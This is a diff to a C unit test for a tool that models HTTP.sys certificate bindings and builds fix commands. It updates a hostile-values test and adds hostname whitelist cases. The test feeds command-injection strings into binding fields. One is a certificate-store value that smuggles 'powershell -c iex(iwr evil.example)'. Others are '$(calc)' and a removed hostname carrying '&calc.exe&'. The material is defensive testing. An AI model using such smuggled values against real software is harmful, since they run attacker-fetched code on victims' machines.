@@ -80,15 +80,19 @@ static void test_hostile_values(void)
 {
 	struct fx f;
 	fx_init(&f);
-	/* the security trial's host name and store name */
-	struct binding_view *v = add_view(&f, EP_HOSTNAMEPORT, "a&calc.exe&rem:443");
+	/*
+	 * the security trial's store name; its host name "a&calc.exe&rem" no
+	 * longer gets past the parser (test_model), so an IDN in Unicode form
+	 * stands for a host name that is valid but not fit for a command line
+	 */
+	struct binding_view *v = add_view(&f, EP_HOSTNAMEPORT, "b\xc3\xbc" "cher.example:443");
 	const char *store = "My\" & powershell -c iex(iwr evil.example) & rem \"";
 	struct srcloc at = f.l;
 	at.line = 4;
 	binding_view_set(&f.m, v, BF_CERT_STORE, &at, store, store, 0, 1);
 	at.line = 11;
 	binding_view_set(&f.m, v, BF_CTL_STORE, &at, "$(calc)", "$(calc)", 0, 1);
-	const struct httpsys_binding *b = model_find_binding(&f.m, "hostnameport:a&calc.exe&rem:443");
+	const struct httpsys_binding *b = model_find_binding(&f.m, "hostnameport:b\xc3\xbc" "cher.example:443");
 	CU_ASSERT_PTR_NOT_NULL_FATAL(b);
 	struct diag *d = diag_emit(&f.d, SEV_ERROR, &f.l, NULL, "x");
 	fix_binding_update1(&f.d, d, b, BF_NEGOTIATE_CLIENT_CERT, "enable");
@@ -118,6 +122,8 @@ static void test_whitelists(void)
 	} cases[] = {
 		{ FIXARG_HOST, "pki.example.org", 1 },
 		{ FIXARG_HOST, "*.example.org", 1 },
+		{ FIXARG_HOST, "*", 1 },
+		{ FIXARG_HOST, "a.*", 0 },
 		{ FIXARG_HOST, "xn--bcher-kva.example", 1 },
 		{ FIXARG_HOST, "-bad.example.org", 0 },
 		{ FIXARG_HOST, "a..b", 0 },
